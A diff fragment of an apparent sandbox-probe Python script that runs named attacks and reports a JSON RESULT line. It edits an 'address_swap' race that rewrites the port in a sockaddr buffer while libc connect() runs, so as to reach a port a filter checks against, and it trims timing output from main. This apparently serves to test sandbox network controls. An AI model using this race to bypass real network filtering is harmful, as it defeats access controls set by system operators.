@@ -597,10 +597,11 @@ def address_swap():
         while not stop.is_set():
             address[2:4] = struct.pack("!H", W["tcp"])
             address[2:4] = struct.pack("!H", ours)
+            time.sleep(0)  # else nobody else here gets to run
 
     threading.Thread(target=swap, daemon=True).start()
     reached = False
-    for _ in range(100):
+    for _ in range(60):
         with socket.socket() as one:
             if LIBC.connect(one.fileno(), address, 16) == 0:
                 reached |= one.getpeername()[1] == W["tcp"]
@@ -696,15 +697,10 @@ def main():
     chosen = sys.argv[2:] or list(ATTACKS)
     found = {}
     for name in chosen:
-        began = time.monotonic()
         try:
             found[name] = bool(ATTACKS[name]())
         except (OSError, ImportError, ValueError):
             found[name] = False
-        if "-v" in sys.argv:
-            print(name, found[name], round(time.monotonic() - began, 3))
-        if time.monotonic() - began > 5:
-            found[name] = "slow"
     print("RESULT" + json.dumps(found))
 
 
